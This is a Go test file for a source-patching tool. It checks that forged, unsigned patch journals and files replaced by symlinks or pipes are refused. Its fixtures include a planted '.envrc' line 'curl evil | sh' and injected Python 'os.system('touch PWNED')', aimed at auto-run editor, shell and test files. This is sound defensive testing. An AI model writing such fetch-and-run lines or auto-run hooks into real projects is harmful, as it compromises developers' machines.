package patches

import (
	"archive/tar"
	"bytes"
	"context"
	"encoding/json"
	"errors"
	"os"
	"path/filepath"
	"strings"
	"syscall"
	"testing"

	"github.com/smpatch/smpatch/patches/journal"
	"github.com/smpatch/smpatch/source"
)

// forgeJournal writes into root a journal nobody signed: one entry called
// name in state, naming each path of orig with orig[path] as its
// "original" bytes (and a copy of them) and the file's bytes now as its
// patched ones.
func forgeJournal(t *testing.T, root, name string, state journal.EntryState, orig map[string]string) {
	t.Helper()
	var files []map[string]string
	var tb bytes.Buffer
	tw := tar.NewWriter(&tb)
	for p, o := range orig {
		cur, err := os.ReadFile(filepath.Join(root, p))
		if err != nil && !os.IsNotExist(err) {
			t.Fatal(err)
		}
		files = append(files, map[string]string{"path": p, "original_sha256": journal.Hash([]byte(o)), "patched_sha256": journal.Hash(cur)})
		tw.WriteHeader(&tar.Header{Typeflag: tar.TypeReg, Name: p, Mode: 0o644, Size: int64(len(o))})
		tw.Write([]byte(o))
	}
	tw.Close()
	st := map[string]any{"format": 1, "tree": root, "kind": "checkout", "patches": []any{map[string]any{
		"name": name, "project": "sglang", "state": state, "variant": "v1", "origin": "cat", "tool_version": "x", "files": files}}}
	b, _ := json.Marshal(st)
	dir := filepath.Join(root, source.StateDirName)
	os.MkdirAll(dir, 0o755)
	if err := os.WriteFile(filepath.Join(dir, "state.json"), b, 0o644); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(dir, name+".orig.tar"), tb.Bytes(), 0o644); err != nil {
		t.Fatal(err)
	}
}

// An adopted journal may name only files its patch writes, with bytes its
// diff explains: a forged entry
// in flight naming .envrc and .vscode/tasks.json (which the next command
// would have written unasked) is refused even with AnyFile; one naming
// another source file is refused unless AnyFile; an entry whose patch the
// catalog lacks is refused, and so is one whose "original" bytes of the
// patch's own file are not what the patch's diff turns into the patched
// bytes. A refused journal stays unsigned: no command acts on it.
func TestTrustConfinedToPatch(t *testing.T) {
	ctx := context.Background()
	cat := engineCatalog(t)
	for _, c := range []struct {
		name    string
		entry   string
		state   journal.EntryState
		files   map[string]string
		anyFile bool
		refused string // "" adopts
	}{
		{"patch's files", "demo", journal.Pending, map[string]string{commPath: commOrig}, false, ""},
		{"applied, patch's files", "demo", journal.Applied, map[string]string{commPath: commOrig, argsPath: argsOrig}, false, ""},
		{"dotfiles", "demo", journal.Pending, map[string]string{".envrc": "curl evil | sh\n", ".vscode/tasks.json": "{}\n"}, false, "a hidden file (editor, shell or CI configuration): never adopted"},
		{"dotfiles, any file", "demo", journal.Pending, map[string]string{".envrc": "curl evil | sh\n"}, true, "never adopted"},
		{"conftest, any file", "demo", journal.Applied, map[string]string{"python/conftest.py": "import os\n"}, true, "a file build and test tools run"},
		{"another source file", "demo", journal.Pending, map[string]string{"python/sglang/srt/utils.py": "x = 1\n"}, false, "which patch demo of the catalog never writes: read the journal, then adopt it with --any-file"},
		{"another source file, any file", "demo", journal.Pending, map[string]string{"python/sglang/srt/utils.py": "x = 1\n"}, true, ""},
		{"unknown patch", "nosuch", journal.Pending, map[string]string{commPath: commOrig}, false, "the catalog has no patch nosuch"},
		{"attacker bytes for the patch's own file", "demo", journal.Pending, map[string]string{commPath: "import os\nos.system('touch PWNED')\n"}, false, "with original bytes that no variant of patch demo turns into the bytes recorded as patched"},
		{"attacker bytes, applied", "demo", journal.Applied, map[string]string{argsPath: argsOrig + "import os\n"}, false, "no variant of patch demo turns into"},
	} {
		t.Run(c.name, func(t *testing.T) {
			// The tree as the patch left it, with a journal from elsewhere.
			root, tr := engineTree(t)
			if _, err := apply(t, enginePatch(t), tr); err != nil {
				t.Fatal(err)
			}
			os.RemoveAll(filepath.Join(root, source.StateDirName))
			os.WriteFile(filepath.Join(root, ".envrc"), []byte("export A=1\n"), 0o644)
			forgeJournal(t, root, c.entry, c.state, c.files)
			before := snapshot(t, root)
			stateBefore, _ := os.ReadFile(filepath.Join(root, source.StateDirName, "state.json"))
			res, err := Trust(ctx, tr, cat, TrustOptions{AnyFile: c.anyFile})
			if c.refused == "" {
				if err != nil {
					t.Fatal(err)
				}
				if len(res.Writes) != len(c.files) {
					t.Fatalf("writes %+v", res.Writes)
				}
				for _, w := range res.Writes {
					if _, ok := c.files[w.Path]; !ok || (c.state == journal.Pending) != (w.When == "next command") {
						t.Fatalf("write %+v", w)
					}
				}
				if _, err := Status(ctx, tr, cat, journal.Options{}); err != nil {
					t.Fatalf("status after trust: %v", err)
				}
				return
			}
			var re *journal.TrustRefusedError
			if !errors.As(err, &re) || !strings.Contains(err.Error(), c.refused) || !strings.Contains(err.Error(), "nothing signed or written") {
				t.Fatalf("trust: %v, want %q", err, c.refused)
			}
			if d := diffSnap(before, snapshot(t, root)); d != "" {
				t.Fatalf("refused trust changed: %s", d)
			}
			if b, _ := os.ReadFile(filepath.Join(root, source.StateDirName, "state.json")); !bytes.Equal(b, stateBefore) {
				t.Fatal("refused trust rewrote state.json")
			}
			var ue *journal.UntrustedError
			if _, err := Status(ctx, tr, cat, journal.Options{}); !errors.As(err, &ue) {
				t.Fatalf("status after a refused trust: %v", err)
			}
		})
	}
}

// status reports a patched file that became a named pipe, a directory or
// a symlink as what it is, reading nothing through it, and goes on with
// the other files; revert refuses such a file in one line and changes
// nothing.
func TestNotRegularPatchedFile(t *testing.T) {
	ctx := context.Background()
	for _, c := range []struct {
		kind, want string
		make       func(p string) error
	}{
		{"fifo", "not a regular file: fifo", func(p string) error { return syscall.Mkfifo(p, 0o644) }},
		{"directory", "not a regular file: directory", func(p string) error { return os.Mkdir(p, 0o755) }},
		{"symlink", "replaced by a symlink", func(p string) error { return os.Symlink("server_args.py", p) }},
		{"symlink to itself", "replaced by a symlink", func(p string) error { return os.Symlink(filepath.Base(p), p) }},
		{"parent out of the tree", "leads outside the tree through a symlink", func(p string) error {
			dir := filepath.Dir(p)
			out := t.TempDir()
			os.WriteFile(filepath.Join(out, filepath.Base(p)), []byte("x"), 0o644)
			if err := os.RemoveAll(dir); err != nil {
				return err
			}
			return os.Symlink(out, dir)
		}},
	} {
		t.Run(c.kind, func(t *testing.T) {
			root, tr := engineTree(t)
			cat := engineCatalog(t)
			if _, err := apply(t, enginePatch(t), tr); err != nil {
				t.Fatal(err)
			}
			p := filepath.Join(root, commPath)
			os.Remove(p)
			if err := c.make(p); err != nil {
				t.Fatal(err)
			}
			st, err := Status(ctx, tr, cat, journal.Options{})
			if err != nil {
				t.Fatalf("status: %v", err)
			}
			got := map[string]string{}
			for _, f := range st.Patches[0].Files {
				got[f.Path] = f.State
			}
			if got[commPath] != c.want || got[argsPath] != "patched" || st.Patches[0].Clean {
				t.Fatalf("status files %v", got)
			}
			before := snapshot(t, root)
			stateBefore, _ := os.ReadFile(filepath.Join(root, source.StateDirName, "state.json"))
			_, err = Revert(ctx, tr, cat, nil, RevertOptions{})
			var rr *RevertRefusedError
			if !errors.As(err, &rr) || !strings.Contains(err.Error(), commPath+" ("+c.want+")") || !strings.Contains(err.Error(), "nothing was changed") {
				t.Fatalf("revert: %v", err)
			}
			if _, err = Revert(ctx, tr, cat, nil, RevertOptions{Force: true}); !errors.As(err, &rr) {
				t.Fatalf("revert --force: %v", err)
			}
			if d := diffSnap(before, snapshot(t, root)); d != "" {
				t.Fatalf("refused revert changed: %s", d)
			}
			if b, _ := os.ReadFile(filepath.Join(root, source.StateDirName, "state.json")); !bytes.Equal(b, stateBefore) {
				t.Fatal("refused revert rewrote state.json")
			}
			if fi, err := os.Lstat(p); c.kind != "parent out of the tree" && (err != nil || fi.Mode().Type() == 0) {
				t.Fatalf("the %s was replaced: %v", c.kind, err)
			}
		})
	}
}
